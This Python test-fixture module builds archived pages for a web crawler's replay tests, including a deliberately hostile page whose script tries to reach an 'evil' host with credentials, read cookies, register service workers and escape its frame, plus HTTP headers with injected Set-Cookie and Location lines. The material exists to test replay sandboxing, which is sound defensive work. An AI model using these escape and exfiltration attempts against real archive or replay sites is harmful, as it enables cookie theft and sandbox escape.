"""Pages for replay: in every coding, hostile, redirected, captured again."""

import gzip
import json
from dataclasses import dataclass, replace
from pathlib import Path

from crawler.capture.archive import Archive, open_archive
from crawler.capture.exchange import Capture, Exchange
from tests.capture.exchanges import append, exchange
from tests.capture.foreign_warcs import chunked

HOST = "http://www.a.gov.cn"
WORDS = "政府信息公开工作年度报告"
LINKED = f"""<!doctype html><html><head><title>{WORDS}</title><base href="/zw/">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'"><meta http-equiv="refresh" content="0; url=/x">
<link rel="stylesheet" href="../css/a.css"><style>body {{ background: url('img/b.png') }}</style></head>
<body onload="document.title='ran'" style="color: rgb(1, 2, 3); list-style: url(img/c.png)">
<script>document.title = "ran"</script><script src="/run.js"></script>
<h1>{WORDS}</h1><img id="red" src="/red.png" srcset="/red.png 1x, /red2.png 2x">
<a id="next" target="_blank" href="t1.html?名=年报#end">next</a><a id="script" href="javascript:alert(1)">s</a>
<a id="mail" href="mailto:a@a.cn">m</a><a id="here" href="#end">h</a><a id="odd" href="ftp://a.cn/">f</a>
<iframe src="//b.gov.cn/frame.html"></iframe><form action="/post" method="post"><input name="a"></form></body></html>
<!-- {" long enough to be stored once" * 20} -->"""
STYLE = "@import 'more.css'; h1 { background: url(../red.png); color: rgb(1, 2, 3) }"
RED = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c49444154789c63f8cfc0000003010100c9fe92ef0000000049454e44ae426082"
)

TYPED = "HTTP/1.1 200 OK\r\nContent-Type: {}\r\n"
GB = TYPED.format("text/html; charset=gb2312").encode()
INJECTED = b"X-Odd: a\rSet-Cookie: b=1\x00\r\nBad Name: x\r\nSet-Cookie: stolen=1\r\nLocation: /elsewhere\r\n"


DRAWING = f"""<!doctype html><html><head><meta charset="gb2312"><title>{WORDS}</title></head><body><ul id="list"></ul>
<img id="red" src="/red.png"><script src="/draw.js"></script></body></html>"""
DRAW = """fetch("/rows.json", {method: "POST", body: "page=1",
  headers: {"Content-Type": "application/x-www-form-urlencoded"}})
  .then(answer => answer.json()).then(rows => {
    document.getElementById("list").innerHTML = rows.map(row => `<li>${row}</li>`).join("");
  });"""

ATTEMPTS = """
const said = [];
const attempt = async (name, act) => {
  const late = new Promise((_, failed) => setTimeout(failed, 1000));
  try { said.push(`${name}=${await Promise.race([act(), late])}`); } catch { said.push(`${name}!`); }
};
const opened = (one, event) => new Promise((done, failed) => {
  one[event] = () => done("open"); one.onerror = failed;
});
const loaded = (tag, from) => {
  const one = document.createElement(tag);
  one.src = one.data = from;
  document.body.append(one);
  return opened(one, "onload");
};
const code = from => `fetch("${from}").then(() => postMessage("got"), () => postMessage("none"))`;
const worker = from => new Promise((done, failed) => {
  const one = new Worker(URL.createObjectURL(new Blob([code(from)])));
  one.onmessage = event => event.data === "got" ? done("got") : failed(); one.onerror = failed;
});
const attempts = async (evil, asked) => {
  for (const [where, from] of [["evil", evil + "/x"], ["api", asked + "/api/reports"]]) {
    await attempt(where + ".fetch", async () => (await fetch(from, {credentials: "include", mode: "no-cors"})).type);
    await attempt(where + ".socket", () => opened(new WebSocket(from.replace("http", "ws")), "onopen"));
    await attempt(where + ".events", () => opened(new EventSource(from), "onopen"));
    await attempt(where + ".import", () => import(from));
    await attempt(where + ".script", () => loaded("script", from));
    await attempt(where + ".image", () => loaded("img", from));
    await attempt(where + ".worker", () => worker(from));
    navigator.sendBeacon(from, "x");
  }
  await attempt("cookie", () => { if (!/nianbao/.test(document.cookie)) throw 0; return "seen"; });
  await attempt("dom", () => top.document.title);
  await attempt("service", () => navigator.serviceWorker.register(SCRIPT));
  await attempt("rtc", () => { if (typeof RTCPeerConnection === "undefined") throw 0; return "there"; });
  return said.join(" ");
};
const leave = (evil, asked) => [
  () => { open(evil + "/open"); },
  () => { top.location = evil + "/top"; },
  () => { top.location.href = asked + "/api/reports"; },
  () => { parent.location = evil + "/parent"; },
  () => { document.body.append(Object.assign(document.createElement("iframe"), {src: evil + "/frame"})); },
  () => { location = evil + "/self"; },
].forEach((act, number) => setTimeout(() => { try { act(); } catch {} }, 100 * number));
"""
"""Everything that a script may try, and then the ways by which it may leave its frame."""

HOSTILE = """<!doctype html><html><head><meta charset="utf-8"><title>hostile</title>
<link rel="stylesheet" href="{evil}/style.css"></head><body><p id="said"></p>
<img src="{evil}/img.png"><script>
const source = {attempts}.replace("SCRIPT", '"{replay}/web/20260331093000id_/http://www.a.gov.cn/draw.js"');
const run = "attempts('{evil}', '{application}')", out = "leave('{evil}', '{application}')";
const inside = `<body><script>${{source}}; ${{run}}.then(() => setTimeout(() => {{ ${{out}} }}, 3000))</` + "script>";
const frame = from => {{
  const holder = document.createElement("div");
  holder.innerHTML = `<iframe src="${{from}}"></iframe>`;
  document.body.append(holder);
}};
frame("data:text/html," + encodeURIComponent(inside));
frame(URL.createObjectURL(new Blob([inside], {{type: "text/html"}})));
(0, eval)(`${{source}}; ${{run}}.then(said => {{ document.getElementById("said").textContent = said;
  setTimeout(() => {{ ${{out}} }}, 3500) }})`);
</script></body></html>"""
"""A page that runs them in its own window, and in two that replay has not touched."""


@dataclass(frozen=True)
class Captured:
    """The archive that is served, its captures by name, and where."""

    archive: Archive
    captures: dict[str, Capture]
    application: str
    replay: str


def capture_pages(data: Path) -> dict[str, Capture]:
    """An archive of one crawl."""
    packed = b"Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"
    body = LINKED.encode("gb18030")
    png = TYPED.format("image/png").encode() + b"\r\n"
    made = {
        "plain": exchange(f"{HOST}/zw/a.html", body, head=GB + b"\r\n"),
        "again": exchange(f"{HOST}/zw/a.html", body, head=GB + b"\r\n", minute=60),
        "later": exchange(f"{HOST}/zw/a.html", body + b"<p>later", head=GB + b"\r\n", minute=90),
        "packed": exchange(f"{HOST}/zw/b.html", chunked(gzip.compress(body)), head=GB + packed),
        "next": exchange(f"{HOST}/zw/t1.html?%C3%FB=%C4%EA%B1%A8", b"<p>next", head=GB + b"\r\n", minute=1),
        "red": exchange(f"{HOST}/red.png", RED, head=png, minute=2),
        "style": exchange(f"{HOST}/css/a.css", STYLE.encode(), head=TYPED.format("text/css").encode() + b"\r\n"),
        "moved": exchange(f"{HOST}/moved", b"", head=b"HTTP/1.1 302 Found\r\nLocation: zw/a.html\r\n\r\n", minute=3),
        "odd": exchange(f"{HOST}/odd.html", b"<p>odd", head=GB + INJECTED + b"\r\n", minute=4),
        "file": exchange(f"{HOST}/f.docx", b"PK", head=TYPED.format("application/msword").encode() + b"\r\n", minute=5),
        "gone": exchange(
            f"{HOST}/gone.html", b"<p>gone", head=b"HTTP/1.1 404 Not Found\r\n" + GB[17:] + b"\r\n", minute=6
        ),
    }
    with open_archive(data, crawl="pages") as archive:
        captures = {name: append(archive, one)[0] for name, one in made.items()}
        drawn = append(
            archive, exchange(f"{HOST}/drawn.html", b"<ul id=l></ul><script>f()</script>", head=GB + b"\r\n")
        )[0]
        archive.add_derived("dom", "<ul id=l><li>画出来的</ul>".encode(), "text/html; charset=utf-8", of=drawn)
        captures |= _browsed(archive)
        shot = archive.add_derived("screenshot", RED, "image/png", of=drawn)
        fake = archive.add_derived("screenshot", b"<svg/>", "image/png", of=drawn)
    return captures | {"drawn": drawn, "shot": shot, "fake": fake}


def _browsed(archive: Archive) -> dict[str, Capture]:
    """A page as the crawler's browser captures it: its parts behind it, and then its document."""
    rows = '["第一行", "第二行"]'.encode()
    url = f"{HOST}/list.html"
    page = append(archive, browsed(url, DRAWING.encode("gb18030"), GB))[0]
    append(archive, browsed(f"{HOST}/draw.js", DRAW.encode(), TYPED.format("text/javascript").encode(), url))
    append(archive, browsed(f"{HOST}/rows.json", rows, TYPED.format("application/json").encode(), url, b"page=1"))
    archive.add_derived("dom", b"<ul><li>drawn</ul>", "text/html; charset=utf-8", of=page)
    return {"list": page}


def browsed(url: str, body: bytes, head: bytes, referrer: str = "", post: bytes = b"") -> Exchange:
    """An exchange of the browser's."""
    made = exchange(url, body, head=head + b"\r\n", minute=7, post=post)
    asked_from = f"Referer: {referrer}\r\n\r\n".encode() if referrer else b"\r\n"
    key = replace(made.key, via="browser")
    return replace(made, key=key, request_head=made.request_head.removesuffix(b"\r\n") + asked_from)


def capture_hostile(data: Path, *, evil: str, application: str, replay: str) -> Capture:
    """A page that tries to get out, captured once it is known where everything is."""
    attempts = json.dumps(ATTEMPTS).replace("</", "<\\/")
    page = HOSTILE.format(evil=evil, application=application, replay=replay, attempts=attempts).encode()
    with open_archive(data, crawl="hostile") as archive:
        return append(archive, browsed(f"{HOST}/hostile.html", page, TYPED.format("text/html").encode()))[0]
